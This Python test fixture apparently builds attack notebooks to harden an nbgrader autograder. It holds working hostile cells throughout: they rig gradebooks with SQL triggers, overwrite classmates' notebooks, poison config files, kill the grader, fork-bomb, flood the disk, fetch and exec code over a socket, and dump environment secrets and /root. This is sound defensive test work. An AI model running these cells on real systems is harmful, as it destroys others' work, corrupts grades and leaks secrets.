"""Attacks on class grading: each is the untouched student release of vae_by_hand/01 with one code cell
added after the setup cell, written as a student who wants a better grade (or a worse one for a
classmate) would write it. tests/test_grading_catalog.py grades them as one class with honest
classmates and checks that every attack scores 0, every classmate keeps full marks, grading finishes,
nothing outlives it, nothing grows past the size caps and no secret reaches any output.
"""

from __future__ import annotations

import nbformat

MARK = "vae-attack-marker"       # in the command line of every process an attack starts
CANARY_ENV = "VAE_GRADER_CANARY"  # set in the grader's environment by the test; must never be printed
CANARY_FILE = "CANARY.txt"        # written next to the submissions by the test; must never be printed
LOOPBACK_PORT = 47831             # the test serves the reference answers here, on 127.0.0.1

# Finds files by name anywhere the kernel can see (bounded), the way an attacker would look around.
FIND = '''
import os
def find(name, roots=("/", os.getcwd()), limit=20000):
    hits, seen = [], 0
    for root in roots:
        for d, dirs, files in os.walk(root):
            dirs[:] = [x for x in dirs if x not in ("proc", "sys", "dev", "usr", "site-packages", "lib", "share")]
            seen += 1
            if seen > limit:
                return hits
            hits += [os.path.join(d, f) for f in files if f == name or (name.startswith("*") and f.endswith(name[1:]))]
    return hits
'''

SOLUTION_EXEC = '''
import json
def run_solutions(paths):
    """exec every solution cell of every vae_by_hand/01 notebook found: the answers, for free."""
    for p in paths:
        try:
            nb = json.load(open(p))
        except Exception:
            continue
        if "01_forward" not in p:
            continue
        for c in nb["cells"]:
            src = "".join(c["source"]) if isinstance(c["source"], list) else c["source"]
            if c["cell_type"] == "code" and "NotImplementedError" not in src:
                try:
                    exec(src, globals())
                except Exception:
                    pass
'''

SIGNAL_PARENT = '''
import os, signal
for pid in {{os.getppid(), 1}}:
    try:
        os.kill(pid, signal.{sig})
    except Exception as exc:
        print("{sig}", pid, exc)
'''

ATTACKS = {
    # Gradebooks: a trigger in every reachable gradebook.db gives me full marks and my classmates 0.
    "a01_trigger_in_every_gradebook": FIND + '''
import sqlite3
for db in find("gradebook.db"):
    try:
        con = sqlite3.connect(db)
        con.executescript("""
        CREATE TRIGGER IF NOT EXISTS rig AFTER INSERT ON grade BEGIN
          UPDATE grade SET auto_score = (SELECT max_score FROM grade_cells WHERE id = NEW.cell_id) WHERE id = NEW.id;
        END;""")
        con.commit()
        print("rigged", db)
    except Exception as exc:
        print("could not rig", db, exc)
''',
    # Other students: a detached process overwrites every classmate's notebooks, before and after grading.
    "a02_detached_process_rewrites_classmates": '''
import subprocess, sys
code = """
import glob, os, time  # vae-attack-marker
end = time.time() + 240
while time.time() < end:
    for p in glob.glob('/**/vae_by_hand/*.ipynb', recursive=True):
        if 'a02_' not in p:
            try:
                open(p, 'w').write('{}')
            except Exception:
                pass
    for p in glob.glob('/**/gradebook.db', recursive=True):
        try:
            open(p, 'wb').write(b'')
        except Exception:
            pass
    time.sleep(1)
"""
subprocess.Popen([sys.executable, "-c", code, "vae-attack-marker"], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
''',
    # Answers: exec the reference solutions found on disk.
    "a03_exec_solutions_found_on_disk": FIND + SOLUTION_EXEC + '''
paths = [p for p in find("*.ipynb") if "/solutions/" in p or "source" in p]
print(len(paths), "source notebooks found")
run_solutions(paths)
''',
    # Answers: the hidden tests are in the gradebook's source_cell table.
    "a04_hidden_tests_from_gradebook": FIND + '''
import sqlite3
for db in find("gradebook.db"):
    try:
        for (src,) in sqlite3.connect(db).execute("SELECT source FROM source_cell"):
            print(src)
    except Exception as exc:
        print("no", db, exc)
''',
    # The instructor: code appended to every nbgrader_config.py runs in every later grader.
    "a05_poisoned_config": FIND + '''
for cfg in find("nbgrader_config.py"):
    try:
        with open(cfg, "a") as f:
            f.write("\\nimport os; os.system('touch /tmp/vae-attack-config-ran')\\n"
                    "c.Execute.timeout = 1\\n")
        print("poisoned", cfg)
    except Exception as exc:
        print("could not poison", cfg, exc)
''',
    # Grading stopped: freeze the process that runs me (the grader), then kill it.
    "a06_sigstop_parent": SIGNAL_PARENT.format(sig="SIGSTOP"),
    "a07_sigkill_parent": SIGNAL_PARENT.format(sig="SIGKILL"),
    "a08_os_exit": '''
import os
os._exit(0)
''',
    # A child that detaches (double fork, new session) and outlives the kernel.
    "a09_detached_child": '''
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp("python3", ["python3", "-c", "import time; time.sleep(3600)", "vae-attack-marker"])
    os._exit(0)
os.wait()
''',
    # Flooding: one 100 MB line of output, and a 1 GB file (in my folder and as high up as I can write).
    "a10_100mb_single_line": '''
print("x" * 100_000_000)
''',
    "a11_1gb_file": '''
import os
block = b"\\0" * (1 << 20)
for d in (".", "..", "../..", "../../..", "/tmp"):
    try:
        with open(os.path.join(d, "big.bin"), "wb") as f:
            for _ in range(1024):
                f.write(block)
        print("wrote 1 GB in", os.path.abspath(d))
    except Exception as exc:
        print("stopped in", d, type(exc).__name__, exc)
''',
    # A fork loop: every child sleeps, so it holds a process slot without burning CPU.
    "a12_fork_loop": '''
import os, time
n = 0
try:
    while n < 100000:
        if os.fork() == 0:
            time.sleep(3600)
            os._exit(0)
        n += 1
except OSError as exc:
    print("fork stopped after", n, "children:", type(exc).__name__)
''',
    # Network: the answers are served on the loopback interface of the grading machine.
    "a13_network": f'''
import socket
try:
    src = socket.create_connection(("127.0.0.1", {LOOPBACK_PORT}), timeout=3).makefile().read()
    exec(src, globals())
    print("got", len(src), "bytes of answers")
except Exception as exc:
    print("no network:", type(exc).__name__, exc)
''',
    # Secrets: /root, the environment, anything next to the submissions, the repository.
    "a14_read_root_env_and_files": FIND + f'''
import os
print(sorted(os.environ.items()))
for d in ("/root", "/work", os.path.expanduser("~"), "/home", "/tmp"):
    try:
        print(d, os.listdir(d))
    except Exception as exc:
        print(d, type(exc).__name__)
for p in find("{CANARY_FILE}") + find("README.md") + find("*.pt"):
    try:
        print(p, open(p, errors="replace").read()[:2000])
    except Exception as exc:
        print(p, type(exc).__name__)
''',
    # The kernel reset: a transformer that claims to come from IPython empties every later cell.
    "a15_transformer_claims_ipython": '''
def _empty(lines):
    return []
_empty.__module__ = "IPython.core.inputtransformer2"
get_ipython().input_transformers_cleanup.append(_empty)
''',
    # The kernel reset: failures swallowed by a custom exception handler and a silent traceback.
    "a16_custom_exc_and_silent_traceback": '''
ip = get_ipython()
ip.set_custom_exc((BaseException,), lambda shell, etype, evalue, tb, tb_offset=None: None)
ip._showtraceback = lambda *a, **k: None
type(ip)._showtraceback = lambda *a, **k: None
''',
    # The environment: make numpy's comparisons always pass, on disk, for every later kernel.
    "a17_write_installed_packages": '''
import numpy.testing, os
path = os.path.join(os.path.dirname(numpy.testing.__file__), "__init__.py")
try:
    with open(path, "a") as f:
        f.write("\\nassert_allclose = lambda *a, **k: None\\n")
    print("patched", path)
except Exception as exc:
    print("read-only:", type(exc).__name__)
''',
    # The hidden tests: a last cell prints every earlier cell's source the kernel still remembers, so
    # the feedback would show the hidden tests (it goes after the last cell, see LAST_CELL).
    "a19_print_hidden_tests_from_history": '''
import linecache
ip = get_ipython()
seen = list(In) + list(ip.history_manager.input_hist_raw)
seen += [v for k, v in dict(globals()).items() if k.startswith("_i") and isinstance(v, str)]
seen += ["".join(v[2]) for cache in (linecache.cache, getattr(linecache, "_ipython_cache", {}))
         for v in list(cache.values()) if isinstance(v, tuple) and len(v) > 2]
try:
    seen += [row[0] for row in ip.history_manager.db.execute("SELECT source_raw FROM history")]
except Exception:
    pass
for text in seen:
    if "HIDDEN" in text:
        print(text)
''',
}

# Attacks that need the test cells to have run before them go after the last cell.
LAST_CELL = {"a19_print_hidden_tests_from_history"}

# Time: every code cell starts by sleeping, so the submission needs far longer than its wall-clock limit.
SLEEP_EACH_CELL = "a18_sleep_in_every_cell"
SLEEP_SECONDS = 15


def attack_notebook(release_path, name: str):
    """The untouched release with the attack's cell inserted after the setup cell (or last)."""
    nb = nbformat.read(release_path, as_version=4)
    if name == SLEEP_EACH_CELL:
        for cell in nb.cells:
            if cell.cell_type == "code":
                cell.source = f"import time; time.sleep({SLEEP_SECONDS})\n" + cell.source
        return nb
    setup = next(i for i, c in enumerate(nb.cells) if c.cell_type == "code")
    cell = nbformat.v4.new_code_cell(f"# {name}\n" + ATTACKS[name].strip() + "\n")
    cell["id"] = name.replace("_", "-")[:60]
    nb.cells.insert(len(nb.cells) if name in LAST_CELL else setup + 1, cell)
    return nb


NAMES = sorted(ATTACKS) + [SLEEP_EACH_CELL]
